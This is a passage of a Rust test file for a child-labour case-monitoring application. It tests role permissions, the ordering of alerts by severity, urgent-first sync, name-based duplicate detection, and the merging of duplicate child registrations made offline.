    let c = store.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    let errors = [
        as_role(&mut store, Role::Supervisor)
            .transition_case(c.id, CaseStatus::Closed)
            .unwrap_err(),
        as_role(&mut store, Role::Inspector)
            .add_follow_up(c.id, follow_up(date(2025, 10, 1)))
            .unwrap_err(),
        as_role(&mut store, Role::CommunityMonitor)
            .merge_cases(c.id, c.id)
            .unwrap_err(),
        as_role(&mut store, Role::CommunityMonitor)
            .export_tables(ExportOptions {
                include_personal_data: true,
            })
            .unwrap_err(),
    ];
    // A case created further along than the role may take it: the rule names the status
    // asked for, then the step on the way that is not the role's.
    let mut closed = child(C01, "Kouamé Adjoa", MONITOR);
    closed.status = CaseStatus::Closed;
    match as_role(&mut store, Role::CommunityMonitor).create(&closed) {
        Err(Error::NotAllowed { rule }) => assert_eq!(
            rule,
            "only a supervisor may make a case closed: the way there goes through withdrawn, \
             a supervisor's step (a community monitor may not)"
        ),
        other => panic!("expected NotAllowed, got {other:?}"),
    }
    for e in errors {
        let text = format!("{e} {e:?}");
        assert!(!text.contains("Kouam"), "{text}");
        assert!(!text.contains("CASE-"), "{text}");
        assert!(!text.contains("École"), "{text}");
    }
}

// ---------------------------------------------------------------------------------------------
// 2. Alerts and urgent-first sync

fn worst_form(c: &mut ChildCase) {
    c.worst_forms.insert(WorstForm::DebtBondage);
}

fn hazardous(c: &mut ChildCase) {
    c.hazards.insert("pesticides".into());
}

/// Refers a case, and verifies it withdrawn: no longer urgent, unless a follow-up says so.
/// Referred, then receiving services and verified withdrawn on 2025-10-01.
fn withdraw(store: &mut Store, id: Uuid) {
    let store = as_role(store, Role::Supervisor);
    store.refer_case(id, referral()).unwrap();
    for to in [CaseStatus::ReceivingServices, CaseStatus::Withdrawn] {
        store.transition_case_on(id, to, date(2025, 10, 1)).unwrap();
    }
}

fn still_working(on: NaiveDate) -> FollowUp {
    FollowUp {
        situation: FollowUpSituation::StillWorking,
        notes: "Toujours au champ.".into(),
        ..follow_up(on)
    }
}

/// The order (`domain::derived`): worst forms, with visits that found forced-labour indicators
/// where children work; hazardous child labour; a child still working at the latest follow-up;
/// forced-labour indicators among adults, several or a strong one before a single weak one;
/// each level most recent first.
#[test]
fn alerts_list_worst_forms_then_hazardous_then_forced_labour_most_recent_first() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "supervisor.db", SUPERVISOR);
    let w = store
        .create(&Workplace::new(
            "Mine Sud",
            "mining",
            Formality::Informal,
            area(C01),
        ))
        .unwrap();

    let mut plain = child(C01, "A", MONITOR);
    plain.identified_on = date(2025, 9, 20);
    store.create(&plain).unwrap();
    let mut old_hazard = child(C01, "B", MONITOR);
    hazardous(&mut old_hazard);
    let old_hazard = store.create(&old_hazard).unwrap();
    let mut new_hazard = child(C01, "C", MONITOR);
    new_hazard.identified_on = date(2025, 9, 5);
    hazardous(&mut new_hazard);
    let new_hazard = store.create(&new_hazard).unwrap();
    let mut worst = child(C02, "D", MONITOR);
    worst_form(&mut worst);
    let worst = store.create(&worst).unwrap();
    let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2026, 1, 5, 9));
    v.forced_labour.insert(
        ForcedLabourIndicator::RetentionOfIdentityDocuments,
        String::new(),
    );
    let fl_visit = store.create(&v).unwrap();
    let mut quiet = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2026, 1, 6, 9));
    quiet.status = VisitStatus::Submitted;
    store.create(&quiet).unwrap();
    // One weak indicator among adults comes after a strong one, however recent.
    let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2026, 1, 7, 9));
    v.forced_labour
        .insert(ForcedLabourIndicator::ExcessiveOvertime, String::new());
    v.workforce.male.adults = 12;
    let weak_visit = store.create(&v).unwrap();
    // Several indicators where children work: forced labour of children, a worst form.
    let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2025, 6, 1, 9));
    for i in [
        ForcedLabourIndicator::DebtBondage,
        ForcedLabourIndicator::RetentionOfIdentityDocuments,
        ForcedLabourIndicator::RestrictionOfMovement,
    ] {
        v.forced_labour.insert(i, String::new());
    }
    v.workforce.female.under_12 = 3;
    v.workforce.female.age_12_14 = 2;
    v.workforce.male.adults = 1;
    let children_visit = store.create(&v).unwrap();
    // A child found still working at the latest follow-up after being withdrawn.
    let mut again = child(C01, "E", MONITOR);
    again.identified_on = date(2025, 8, 1);
    let again = store.create(&again).unwrap();
    withdraw(&mut store, again.id);
    as_role(&mut store, Role::Supervisor)
        .add_follow_up(again.id, still_working(date(2025, 11, 1)))
        .unwrap();

    let alerts = store.alerts(None, Page::first(50)).unwrap();
    assert_eq!(
        alerts
            .iter()
            .map(|a| (a.id, a.severity))
            .collect::<Vec<_>>(),
        vec![
            (worst.id, AlertSeverity::WorstFormSuspected),
            (children_visit.id, AlertSeverity::WorstFormSuspected),
            (new_hazard.id, AlertSeverity::HazardousChildLabour),
            (old_hazard.id, AlertSeverity::HazardousChildLabour),
            (again.id, AlertSeverity::StillWorking),
            (fl_visit.id, AlertSeverity::ForcedLabourLikely),
            (weak_visit.id, AlertSeverity::ForcedLabourIndicators),
        ]
    );
    assert_eq!(store.alert_count(None).unwrap(), 7, "counted as listed");
    assert_eq!(alerts[1].kind, RecordKind::Visit);
    assert_eq!(alerts[4].kind, RecordKind::ChildCase);
    assert_eq!(alerts[5].kind, RecordKind::Visit);
    // A later follow-up finding the child in school ends the alert.
    as_role(&mut store, Role::Supervisor)
        .add_follow_up(again.id, follow_up(date(2026, 2, 1)))
        .unwrap();
    assert!(
        !store
            .alerts(None, Page::first(50))
            .unwrap()
            .iter()
            .any(|a| a.id == again.id)
    );
    let in_c02 = store
        .alerts(Some(AreaFilter::Community(C02.into())), Page::first(50))
        .unwrap();
    assert_eq!(
        in_c02.iter().map(|a| a.id).collect::<Vec<_>>(),
        vec![worst.id]
    );
    let page2 = store
        .alerts(
            None,
            Page {
                offset: 2,
                limit: 2,
            },
        )
        .unwrap();
    assert_eq!(
        page2.iter().map(|a| a.id).collect::<Vec<_>>(),
        vec![new_hazard.id, old_hazard.id]
    );

    // A child verified withdrawn is no longer an alert.
    as_role(&mut store, Role::Supervisor)
        .refer_case(new_hazard.id, referral())
        .unwrap();
    as_role(&mut store, Role::Supervisor)
        .transition_case_on(
            new_hazard.id,
            CaseStatus::ReceivingServices,
            date(2025, 11, 20),
        )
        .unwrap();
    assert_eq!(store.alerts(None, Page::first(50)).unwrap().len(), 6);
    as_role(&mut store, Role::Supervisor)
        .transition_case_on(new_hazard.id, CaseStatus::Withdrawn, date(2025, 11, 20))
        .unwrap();
    assert!(
        !store
            .alerts(None, Page::first(50))
            .unwrap()
            .iter()
            .any(|a| a.id == new_hazard.id)
    );
    // Until a follow-up finds the child still working: the case's own alert comes back.
    as_role(&mut store, Role::Supervisor)
        .add_follow_up(new_hazard.id, still_working(date(2025, 12, 5)))
        .unwrap();
    assert!(
        store
            .alerts(None, Page::first(50))
            .unwrap()
            .iter()
            .any(|a| a.id == new_hazard.id && a.severity == AlertSeverity::HazardousChildLabour)
    );
}

/// A child's case raises no alert from the 18th birthday on, a day the calendar reaches with
/// no write: the list judges each alert row against today.
#[test]
fn a_case_raises_no_alert_from_the_childs_18th_birthday() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let today = chrono::Utc::now().date_naive();
    let born = |days_after_18: i64| {
        today
            .checked_sub_months(chrono::Months::new(18 * 12))
            .unwrap()
            + chrono::Duration::days(days_after_18)
    };
    let mut ids = Vec::new();
    for (name, birth) in [
        ("Kouamé Adjoa", born(0)),
        ("Yao Koffi", born(-200)),
        ("Awa Koné", born(1)),
    ] {
        let mut c = child(C01, name, MONITOR);
        c.identified_on = today.checked_sub_months(chrono::Months::new(12)).unwrap();
        c.date_of_birth = Some(birth);
        hazardous(&mut c);
        ids.push(store.create(&c).unwrap().id);
    }
    // Estimated at 17 two years ago: 18 for a year.
    let mut estimated = child(C01, "Konan Affoué", MONITOR);
    estimated.identified_on = today.checked_sub_months(chrono::Months::new(24)).unwrap();
    estimated.date_of_birth = None;
    estimated.estimated_age = Some(17);
    estimated.hours_per_week = 50;
    store.create(&estimated).unwrap();

    let alerts: Vec<Uuid> = store
        .alerts(None, Page::first(50))
        .unwrap()
        .into_iter()
        .map(|a| a.id)
        .collect();
    assert_eq!(alerts, vec![ids[2]], "only the child not yet 18");
    for id in ids {
        let case: ChildCase = store.get(id).unwrap();
        assert_eq!(
            case_alert_on(&case, today).is_some(),
            alerts.contains(&id),
            "the list follows the domain's rule"
        );
    }
}

#[test]
fn urgent_records_go_first_in_the_outbox() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let mut ordinary = Vec::new();
    for name in ["E", "F", "G"] {
        ordinary.push(store.create(&child(C01, name, MONITOR)).unwrap().id);
    }
    let mut h = child(C01, "H", MONITOR);
    hazardous(&mut h);
    let hazard = store.create(&h).unwrap().id;
    let mut w = child(C01, "W", MONITOR);
    worst_form(&mut w);
    let worst = store.create(&w).unwrap().id;

    let pushed_order = |store: &Store| {
        let bytes = store
            .hub_sync_request(&sync::SyncOptions::default())
            .unwrap();
        sync::wire::decode_request(&bytes, 64 << 20)
            .unwrap()
            .push
            .iter()
            .map(|p| p.id)
            .collect::<Vec<_>>()
    };
    let mut expected = vec![worst, hazard];
    expected.extend(&ordinary);
    assert_eq!(pushed_order(&store), expected);

    // A record that becomes urgent moves up; one that stops being urgent moves back.
    let mut c: ChildCase = store.get(ordinary[2]).unwrap();
    c.worst_forms.insert(WorstForm::ForcedLabour);
    store.update(&c).unwrap();
    let mut c: ChildCase = store.get(worst).unwrap();
    c.worst_forms.clear();
    store.update(&c).unwrap();
    assert_eq!(
        pushed_order(&store),
        vec![ordinary[2], hazard, ordinary[0], ordinary[1], worst]
    );
    // With room for one record only, the urgent one travels first.
    let tiny = sync::SyncOptions {
        max_message_bytes: 1,
        ..Default::default()
    };
    let bytes = store.hub_sync_request(&tiny).unwrap();
    let request = sync::wire::decode_request(&bytes, 64 << 20).unwrap();
    assert_eq!(
        request.push.iter().map(|p| p.id).collect::<Vec<_>>(),
        vec![ordinary[2]]
    );
}

// ---------------------------------------------------------------------------------------------
// 3. Duplicates

#[test]
fn names_fold_accents_case_and_word_order() {
    assert_eq!(
        fold_name("  Kouamé  N'Guessan-Éric "),
        "kouame n guessan eric"
    );
    assert_eq!(fold_name("ÇÀÉÏÔÙ œ"), "caeiou oe");
    // Letters of West African alphabets, as a French keyboard writes them.
    assert_eq!(
        fold_name("Moussa ŊGOM, Ɗanjuma Ƙasimu, Ɲɛlɛ, Ɓangui, Ɣeli Ʋɔ"),
        "moussa ngom danjuma kasimu nyele bangui geli vo"
    );
    assert!(name_similarity("Kouamé Adjoa", "KOUAME Adjoa") > 0.999);
    assert!(name_similarity("Kouamé Adjoa", "Adjoa Kouame") > 0.999);
    assert!(name_similarity("Kouamé Adjoa", "Kouame Adjwa") >= NAME_SIMILARITY_THRESHOLD);
    assert!(name_similarity("Kouamé Adjoa", "Yao Koffi") < NAME_SIMILARITY_THRESHOLD);
    assert_eq!(name_similarity("", "Yao"), 0.0);
}

/// A name search of one kind, a page at a time: a region's common surname names more children
/// than a page holds, and its workplaces came after them, out of reach.
#[test]
fn a_name_search_narrows_to_a_kind_and_pages_through_every_hit() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let mut children = Vec::new();
    for n in 0..5 {
        children.push(
            store
                .create(&child(C01, &format!("Koné Awa{n}"), MONITOR))
                .unwrap()
                .id,
        );
    }
    let place = Workplace::new("Plantation Koné", "cocoa", Formality::Informal, area(C01));
    let place = store.create(&place).unwrap();
    let of = |kind, page| {
        store
            .search_names_in("kone", kind, page)
            .unwrap()
            .into_iter()
            .map(|h| h.id)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        of(Some(RecordKind::Workplace), Page::first(2)),
        vec![place.id]
    );
    let mut paged = Vec::new();
    let mut page = Page::first(2);
    loop {
        let hits = of(Some(RecordKind::ChildCase), page);
        if hits.is_empty() {
            break;
        }
        paged.extend(hits);
        page = page.next();
    }
    paged.sort();
    children.sort();
    assert_eq!(paged, children, "every child once");
    assert_eq!(of(None, Page::first(50)).len(), 6);
}

/// A merge brings the duplicate's referrals over to the kept case: an identified case that
/// now holds a referral is referred, as a referral makes it, and counted so (the figure sent
/// to the ministry lost a referred child at each merge).
#[test]
fn a_kept_case_that_takes_a_referral_in_a_merge_is_referred() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "supervisor.db", SUPERVISOR);
    let kept = store.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    let duplicate = store.create(&child(C01, "Adjoa Kouamé", MONITOR)).unwrap();
    as_role(&mut store, Role::Supervisor)
        .refer_case(duplicate.id, referral())
        .unwrap();
    let referred = |store: &Store| {
        store
            .indicators(&Default::default())
            .unwrap()
            .children
            .referred
    };
    assert_eq!(referred(&store), 1);
    let (kept, _) = as_role(&mut store, Role::Supervisor)
        .merge_cases(kept.id, duplicate.id)
        .unwrap();
    assert_eq!(
        (kept.status, kept.referrals.len()),
        (CaseStatus::Referred, 1)
    );
    assert_eq!(referred(&store), 1, "the child, referred, once");
}

/// The code of a registration merged into another, as the paper form of the first visit
/// carries it, finds the case kept at the end of its merges (on the phone and for a
/// supervisor); for a reader who does not receive the registration, it finds nothing.
#[test]
fn the_code_of_a_merged_registration_finds_the_case_kept() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "supervisor.db", SUPERVISOR);
    let registered = |store: &mut Store, community: &str, code: &str| {
        let mut c = child(community, "Adjoa Kouamé", MONITOR);
        c.case_code = code.into();
        store.create(&c).unwrap().id
    };
    let first = registered(&mut store, C02, "CI-R1-D1-C02-000004");
    let second = registered(&mut store, C01, "CI-R1-D1-C01-000007");
    let kept = registered(&mut store, C01, "CI-R1-D1-C01-000009");
    registered(&mut store, C01, "CI-R1-D1-C01-000014");
    as_role(&mut store, Role::Supervisor)
        .merge_cases(second, first)
        .unwrap();
    as_role(&mut store, Role::Supervisor)
        .merge_cases(kept, second)
        .unwrap();
    let query = |typed: &str| ChildCaseQuery {
        code: Some(typed.into()),
        ..Default::default()
    };
    let found = |store: &Store, typed: &str| -> Vec<Uuid> {
        let rows = store.child_cases(&query(typed), Page::first(10)).unwrap();
        rows.into_iter().map(|c| c.id).collect()
    };
    for typed in ["CI-R1-D1-C02-000004", "C02-000004", "7", "C01-000007", "9"] {
        assert_eq!(found(&store, typed), [kept], "{typed}");
    }
    assert_eq!(found(&store, "C01-000004").len(), 0);
    let ids = |who: &vigie_core::sync::Principal, typed: &str| -> Vec<Uuid> {
        let rows = store
            .scoped(who)
            .child_cases(&query(typed), None, Page::first(10));
        rows.unwrap().into_iter().map(|c| c.id).collect()
    };
    let district = common::principal_of(&store, Role::Supervisor, &["CI-R1-D1"]);
    assert_eq!(ids(&district, "C02-000004"), [kept]);
    let community = common::principal_of(&store, Role::Supervisor, &[C01]);
    assert_eq!(ids(&community, "C01-000007"), [kept]);
    assert_eq!(ids(&community, "C02-000004").len(), 0, "not received");
}

/// A birth certificate seen at one registration is the child's: the case kept, which had only
/// an estimate, takes its date of birth (and the age it gives), whichever registration was
/// made first; a date that cannot be the child's on the kept case's day is left.
#[test]
fn a_date_of_birth_the_duplicate_recorded_is_taken_by_a_case_kept_with_an_estimate() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "supervisor.db", SUPERVISOR);
    // A case estimated `estimate` on the usual day, kept; a later registration born `born`.
    let mut merged = |estimate: i32, born: NaiveDate| {
        let mut estimated = child(C01, "Kouamé Adjoa", MONITOR);
        estimated.date_of_birth = None;
        estimated.estimated_age = Some(estimate);
        let kept = store.create(&estimated).unwrap();
        let mut certified = child(C01, "Adjoa Kouamé", MONITOR_2);
        certified.identified_on = date(2025, 10, 1);
        certified.date_of_birth = Some(born);
        let duplicate = store.create(&certified).unwrap();
        as_role(&mut store, Role::Supervisor)
            .merge_cases(kept.id, duplicate.id)
            .unwrap()
            .0
    };
    let kept = merged(15, date(2011, 3, 15));
    assert_eq!(
        kept.identified_on,
        date(2025, 9, 1),
        "the earlier day stays"
    );
    assert_eq!(kept.date_of_birth, Some(date(2011, 3, 15)));
    assert_eq!(kept.age_on(kept.identified_on), Some(14));
    // Born after the kept case's day: not this child's date on that day, left.
    let kept = merged(9, date(2025, 9, 20));
    assert_eq!((kept.date_of_birth, kept.estimated_age), (None, Some(9)));
}

/// Three registrations of one child merged into the latest, in either order: the case kept
/// holds the first day and the estimate made that day, whatever the order (the latest
/// registration's estimate, of a later day, stayed beside the date of birth, and stood again,
/// the child older by two years, once the date was cleared as another child's).
#[test]
fn registrations_merged_in_any_order_keep_the_first_days_estimate() {
    let dir = TempDir::new().unwrap();
    let registered = |store: &mut Store,
                      name: &str,
                      on: NaiveDate,
                      born: Option<NaiveDate>,
                      estimate: Option<i32>| {
        let mut c = child(C01, name, MONITOR);
        c.identified_on = on;
        c.date_of_birth = born;
        c.estimated_age = estimate;
        store.create(&c).unwrap().id
    };
    let mut kept_in = Vec::new();
    for (i, order) in [[0usize, 1], [1, 0]].iter().enumerate() {
        let mut store = open(&dir, &format!("order-{i}.db"), SUPERVISOR);
        let first = registered(&mut store, "Awa Koné", date(2024, 6, 1), None, Some(13));
        let second = registered(
            &mut store,
            "Awa Kone",
            date(2025, 6, 1),
            Some(date(2010, 1, 1)),
            None,
        );
        let latest = registered(&mut store, "Koné Awa", date(2026, 6, 1), None, Some(16));
        let duplicates = [first, second];
        for at in order {
            as_role(&mut store, Role::Supervisor)
                .merge_cases(latest, duplicates[*at])
                .unwrap();
        }
        let kept: ChildCase = store.get(latest).unwrap();
        kept_in.push((kept.identified_on, kept.date_of_birth, kept.estimated_age));
        // The date of birth was another child's: the first day's estimate stands.
        let mut cleared = kept.clone();
        cleared.date_of_birth = None;
        let cleared = store.update(&cleared).unwrap();
        assert_eq!(cleared.age_on(cleared.identified_on), Some(13));
    }
    assert_eq!(
        kept_in,
        vec![(date(2024, 6, 1), Some(date(2010, 1, 1)), Some(13)); 2]
    );
}

/// A child verified withdrawn under one registration, registered again by another monitor
/// (found working) and merged into the second one: the child stays counted as referred, served and withdrawn (a
/// quarter already reported keeps its figures), once; the kept case keeps the verification as
/// history and schedules nothing until it is verified itself.
#[test]
fn a_withdrawn_child_merged_into_a_new_registration_stays_counted_as_withdrawn() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", SUPERVISOR);
    let earlier = remediated_case(&mut store, "Kouamé Adjoa", date(2025, 10, 15));
    let again = store
        .create(&child(C01, "Kouame Adjoa", MONITOR_2))
        .unwrap();
    let stages = |store: &Store| {
        let c = store.indicators(&Default::default()).unwrap().children;
        (
            c.identified,
            c.referred,
            c.receiving_services,
            c.withdrawn_or_prevented,
        )
    };
    assert_eq!(stages(&store), (2, 1, 1, 1));
    let (kept, _) = as_role(&mut store, Role::Supervisor)
        .merge_cases(again.id, earlier.id)
        .unwrap();
    assert_eq!(kept.remediated_on, Some(date(2025, 10, 15)));
    assert!(!kept.is_tracked());
    assert_eq!(kept.follow_up_due, None);
    assert_eq!(stages(&store), (1, 1, 1, 1));
}

#[test]
fn the_same_child_registered_offline_by_two_monitors_is_found_and_merged() {
    let dir = TempDir::new().unwrap();
    // Two monitors register the same girl offline on their own phones.
    let mut phone_a = open(&dir, "a.db", MONITOR);
    let mut phone_b = open(&dir, "b.db", MONITOR_2);
    let first = phone_a
        .create(&child(C01, "Kouamé Adjoa", MONITOR))
        .unwrap();
    as_role(&mut phone_a, Role::CommunityMonitor)
        .refer_case(first.id, referral())
        .unwrap();
    let mut again = child(C01, "ADJOA Kouame", MONITOR_2);
    again.date_of_birth = None;
    again.estimated_age = Some(12); // born about 2013: within a year of 2014
    again.identified_on = date(2025, 9, 3);
    // The second monitor saw what the first did not.
    again.worst_forms.insert(WorstForm::DebtBondage);
    again.hazards.insert("heavy_loads".into());
    again.hazards.insert("a_code_no_rule_set_lists".into());
    let again = phone_b.create(&again);
    assert!(again.is_err(), "an unknown hazard code does not validate");
    let mut again = child(C01, "ADJOA Kouame", MONITOR_2);
    again.date_of_birth = None;
    again.estimated_age = Some(12);
    again.identified_on = date(2025, 9, 3);
    again.worst_forms.insert(WorstForm::DebtBondage);
    again.hazards.insert("heavy_loads".into());
    let again = phone_b.create(&again).unwrap();
    let (_, fu_key) = as_role(&mut phone_b, Role::CommunityMonitor)
        .add_follow_up(again.id, follow_up(date(2025, 9, 20)))
        .unwrap();

    // They meet at the supervisor's store.
    let mut hub = open(&dir, "supervisor.db", SUPERVISOR);
    for (phone, id) in [(&phone_a, first.id), (&phone_b, again.id)] {
        hub.merge_document(id, &phone.export_document(id).unwrap())
            .unwrap();
    }
    // Not duplicates: another community, a birth year too far, another name.
    hub.create(&child(C02, "Kouamé Adjoa", MONITOR)).unwrap();
    let mut older = child(C01, "Kouamé Adjoa", MONITOR);
    older.date_of_birth = Some(date(2011, 1, 1));
    hub.create(&older).unwrap();
    let other = hub.create(&child(C01, "Yao Koffi", MONITOR)).unwrap();

    let candidates = hub.duplicate_candidates(first.id).unwrap();
    assert_eq!(candidates.len(), 1, "{candidates:?}");
    assert_eq!(candidates[0].case_id, again.id);
    assert!(candidates[0].similarity > 0.99);
    assert!(hub.duplicate_candidates(other.id).unwrap().is_empty());

    // Only a supervisor merges.
    for role in [Role::Inspector, Role::CommunityMonitor] {
        not_allowed(as_role(&mut hub, role).merge_cases(first.id, again.id));
    }
    not_allowed(as_role(&mut hub, Role::Supervisor).merge_cases(first.id, first.id));
    let (kept, dup) = as_role(&mut hub, Role::Supervisor)
        .merge_cases(first.id, again.id)
        .unwrap();
    assert_eq!(kept.merged_from, BTreeSet::from([again.id]));
    assert_eq!(dup.merged_into, Some(first.id));
    assert_eq!(kept.referrals.len(), 1);
    assert!(kept.followups.contains_key(&fu_key), "follow-ups copied");
    // What either registration found the child exposed to is the child's: the kept case
    // classifies and alerts as a worst form.
    assert!(kept.worst_forms.contains(&WorstForm::DebtBondage));
    assert!(kept.hazards.contains("heavy_loads"));
    assert_eq!(
        hub.get::<ChildCase>(first.id)
            .unwrap()
            .classification
            .map(|c| c.outcome),
        Some(ClassificationOutcome::WorstFormSuspected)
    );
    assert!(
        hub.alerts(None, Page::first(50))
            .unwrap()
            .iter()
            .any(|a| a.id == first.id && a.severity == AlertSeverity::WorstFormSuspected),
        "the kept case alerts"
    );
    assert!(
        dup.followups.contains_key(&fu_key),
        "the duplicate keeps its own"
    );
    assert_eq!(
        dup.name, "ADJOA Kouame",
        "the duplicate's document is kept whole"
    );
    assert_eq!(dup.status, CaseStatus::Identified, "status left as it was");

    // Traceable: both ids resolve, and each history shows the merge by the supervisor.
    let by_supervisor = |id| {
        hub.history(id)
            .unwrap()
            .into_iter()
            .filter(|h| h.author.as_ref().is_some_and(|a| a.user == SUPERVISOR))
            .flat_map(|h| h.fields)
            .collect::<Vec<_>>()
    };
    assert!(
        by_supervisor(first.id)
            .iter()
            .any(|f| f.starts_with("merged_from"))
    );
    assert!(by_supervisor(again.id).iter().any(|f| f == "merged_into"));
    assert_eq!(
        hub.get::<ChildCase>(again.id).unwrap().merged_into,
        Some(first.id)
    );

    // The duplicate leaves candidates, due lists, search and workflow; merging again changes
    // nothing.
    assert!(hub.duplicate_candidates(first.id).unwrap().is_empty());
    let found: Vec<Uuid> = hub
        .search_names("Adjoa", 20)
        .unwrap()
        .into_iter()
        .map(|h| h.id)
        .collect();
    assert!(found.contains(&first.id), "{found:?}");
    assert!(!found.contains(&again.id), "{found:?}");
    not_allowed(as_role(&mut hub, Role::Supervisor).refer_case(again.id, referral()));
    let (kept2, _) = as_role(&mut hub, Role::Supervisor)
        .merge_cases(first.id, again.id)
        .unwrap();
    assert_eq!(kept2.version, kept.version);
    let third = hub.create(&child(C01, "Kouame Adjoa", MONITOR)).unwrap();
    not_allowed(as_role(&mut hub, Role::Supervisor).merge_cases(third.id, again.id));
    not_allowed(as_role(&mut hub, Role::Supervisor).merge_cases(again.id, third.id));

    // The merge travels to a phone like any other edit.
    phone_b
        .merge_document(again.id, &hub.export_document(again.id).unwrap())
        .unwrap();
    assert_eq!(
        phone_b.get::<ChildCase>(again.id).unwrap().merged_into,
        Some(first.id)
    );
}

/// Long hours recorded on the duplicate are the child's too: the kept case, registered with a
/// few hours a week, becomes hazardous child labour and alerts once the two are merged; and
/// the schooling the duplicate knew stands where the kept case did not know it.
#[test]
fn a_merge_keeps_the_longer_working_week_and_the_schooling_either_registration_recorded() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "supervisor.db", SUPERVISOR);
    let mut first = child(C01, "Kouamé Adjoa", MONITOR);
    first.hours_per_week = 5;
    first.hazards.clear();
    let first = store.create(&first).unwrap();
    let mut again = child(C01, "Kouamé Adjoa", MONITOR_2);
    again.hours_per_week = 50;
    again.hazards.clear();
    again.school = SchoolStatus::DroppedOut;
    let again = store.create(&again).unwrap();
    let outcome = |store: &Store, id| {
        store
            .get::<ChildCase>(id)
            .unwrap()
            .classification
            .map(|c| c.outcome)
    };
    assert_eq!(
        outcome(&store, again.id),
        Some(ClassificationOutcome::HazardousChildLabour)
    );
    assert_ne!(
        outcome(&store, first.id),
        Some(ClassificationOutcome::HazardousChildLabour)
    );

    let (kept, _) = as_role(&mut store, Role::Supervisor)
        .merge_cases(first.id, again.id)
        .unwrap();
    assert_eq!(kept.hours_per_week, 50);
    assert_eq!(
        kept.school,
        SchoolStatus::DroppedOut,
        "what the kept case did not know"
    );
    assert_eq!(
        outcome(&store, first.id),
        Some(ClassificationOutcome::HazardousChildLabour)
    );
    assert!(
        store
            .alerts(None, Page::first(50))
            .unwrap()
            .iter()
            .any(|a| a.id == first.id),
        "the kept case alerts"
    );
}

/// Copies the records `ids` of one store into another, as a sync would.
fn exchange(from: &Store, to: &mut Store, ids: [Uuid; 2]) {
    for id in ids {
        to.merge_document(id, &from.export_document(id).unwrap())
            .unwrap();
    }
}

/// Two supervisors, offline, each merge the pair `x`, `y` keeping another one; the first then
/// takes the second's: each case names the other (both in view until merged again).
fn merge_both_ways(one: &mut Store, two: &mut Store, x: Uuid, y: Uuid) {
    exchange(one, two, [x, y]);
    as_role(one, Role::Supervisor).merge_cases(x, y).unwrap();
    as_role(two, Role::Supervisor).merge_cases(y, x).unwrap();
    exchange(two, one, [x, y]);
}

#[test]
fn a_pair_merged_offline_in_opposite_directions_stays_in_view_until_merged_again() {
    let dir = TempDir::new().unwrap();
    const SUPERVISOR_2: Uuid = Uuid::from_u128(0x0195_0000_0000_7000_8000_0000_0000_0a09);
    let mut one = open(&dir, "one.db", SUPERVISOR);
    let mut two = open(&dir, "two.db", SUPERVISOR_2);
    let mut x = child(C01, "Kouamé Adjoa", MONITOR);
    hazardous(&mut x);
    let x = one.create(&x).unwrap();
    let mut y = child(C01, "Adjoa Kouamé", MONITOR);
    hazardous(&mut y);
    let y = one.create(&y).unwrap();
    merge_both_ways(&mut one, &mut two, x.id, y.id);
    exchange(&one, &mut two, [x.id, y.id]);
    // Both in view, the monitor records on the case the settling merge will not keep.
    let mut seen: ChildCase = two.get(y.id).unwrap();
    seen.night_work = true;
    seen.hazards.insert("heavy_loads".into());
    as_role(&mut two, Role::CommunityMonitor)
        .update(&seen)
        .unwrap();
    as_role(&mut two, Role::CommunityMonitor)
        .add_follow_up(y.id, follow_up(date(2026, 1, 20)))
        .unwrap();
    exchange(&two, &mut one, [x.id, y.id]);
    for store in [&one, &two] {
        // Neither is lost: both are listed, alert and count, and are candidates again.
        let listed = store
            .child_cases(&ChildCaseQuery::default(), Page::first(10))
            .unwrap();
        assert_eq!(listed.len(), 2);
        assert_eq!(store.alerts(None, Page::first(10)).unwrap().len(), 2);
        assert_eq!(store.duplicate_candidates(x.id).unwrap().len(), 1);
    }
    // A supervisor merges them again: that settles it, on every store it reaches.
    let (kept, dup) = as_role(&mut one, Role::Supervisor)
        .merge_cases(x.id, y.id)
        .unwrap();
    assert_eq!(kept.merged_into, None);
    assert_eq!(dup.merged_into, Some(x.id));
    assert!(!dup.merged_from.contains(&x.id));
    // What was recorded on the other is the child's: the kept case takes it, as at a merge.
    assert!(kept.night_work && kept.hazards.contains("heavy_loads"));
    assert_eq!(kept.followups.len(), 1);
    exchange(&one, &mut two, [x.id, y.id]);
    for store in [&one, &two] {
        let listed = store
            .child_cases(&ChildCaseQuery::default(), Page::first(10))
            .unwrap();
        assert_eq!(listed.iter().map(|c| c.id).collect::<Vec<_>>(), [x.id]);
        assert_eq!(store.alerts(None, Page::first(10)).unwrap().len(), 1);
        assert!(store.get::<ChildCase>(y.id).unwrap().is_merged_duplicate());
    }
    // The duplicate takes no edit from there: what it would record reaches no list or count,
    // and a merge is not undone by clearing its pointer.
    let mut late: ChildCase = two.get(y.id).unwrap();
    late.hours_per_week = 60;
    let refused = as_role(&mut two, Role::Supervisor).update(&late);
    assert!(
        matches!(&refused, Err(Error::NotAllowed { rule }) if rule.contains("merged into another case")),
        "{refused:?}"
    );
    let mut undone: ChildCase = two.get(y.id).unwrap();
    undone.merged_into = None;
    let refused = as_role(&mut two, Role::Supervisor).update(&undone);
    assert!(
        matches!(refused, Err(Error::NotAllowed { .. })),
        "{refused:?}"
    );
    assert!(two.get::<ChildCase>(y.id).unwrap().is_merged_duplicate());
}

// ---------------------------------------------------------------------------------------------
// 4. Indicators

/// A pair merged offline in opposite directions holds each other's referrals and follow-ups
/// (each merge copied them, under the same keys): an export lists each once, so that a load
/// keyed on their ids takes every row.
#[test]
fn a_pair_merged_in_opposite_directions_lists_each_referral_and_follow_up_once() {
